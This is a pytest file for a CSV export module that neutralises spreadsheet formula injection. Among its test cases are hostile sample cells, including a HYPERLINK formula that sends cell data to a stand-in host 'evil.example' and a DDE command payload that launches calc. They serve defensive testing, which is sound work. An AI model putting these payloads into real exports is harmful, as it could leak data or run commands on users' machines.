"""CSV that a spreadsheet opens safely: formula injection neutralised, quoting by the csv module."""

import csv
import io

import pytest

from trainer.export.csvsafe import BOM, neutralise, to_csv


def parse(text: str) -> list[list[str]]:
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=x", "'\t=x"),
        ("\r=x", "'\r=x"),
        ("\x00=x", "'\x00=x"),
        ('=HYPERLINK("http://evil.example?"&A1,"click")', '\'=HYPERLINK("http://evil.example?"&A1,"click")'),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("Normal text, with a comma", "Normal text, with a comma"),
        ('He said "no"', 'He said "no"'),
        ("two\nlines", "two\nlines"),
        ("a = b", "a = b"),  # only the first character matters
        ("'quoted already", "'quoted already"),
        ("[/]", "[/]"),
        ("[@click=app.quit]x", "[@click=app.quit]x"),
        ("", ""),
    ],
)
def test_cells_round_trip_with_formulas_neutralised(cell, expected):
    assert neutralise(cell) == expected
    rows = parse(to_csv(["text", "n"], [[cell, 3]]))
    assert rows == [["text", "n"], [expected, "3"]]


def test_header_none_bool_and_numbers():
    text = to_csv(["a", "b", "c", "d"], [[None, True, 0.25, 7]])
    assert parse(text) == [["a", "b", "c", "d"], ["", "true", "0.25", "7"]]
    assert text.endswith("\r\n") and "\r\n" in text  # RFC 4180 line ends


def test_without_bom():
    assert not to_csv(["a"], [], bom=False).startswith(BOM)
